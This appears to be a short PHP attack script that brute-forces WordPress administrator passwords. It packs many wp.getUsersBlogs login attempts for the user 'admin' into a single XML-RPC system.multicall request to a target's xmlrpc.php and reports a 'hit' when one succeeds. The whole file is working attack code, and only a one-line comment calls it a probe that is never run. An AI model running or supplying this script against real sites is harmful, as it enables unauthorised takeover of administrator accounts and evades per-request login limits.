<?php
// probe (never run): many passwords in one system.multicall to xmlrpc.php
$url = $_GET['u'] . '/xmlrpc.php';
$calls = '';
foreach (explode(',', $_GET['pw']) as $p) {
    $calls .= '<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value><value><string>' . $p . '</string></value></data></array></value></data></array></value></member></struct></value>';
}
$xml = '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>' . $calls . '</data></array></value></param></params></methodCall>';
$r = file_get_contents($url, false, stream_context_create(array('http' => array('method' => 'POST', 'content' => $xml))));
echo (strpos($r, 'isAdmin') !== false) ? 'hit' : 'none';
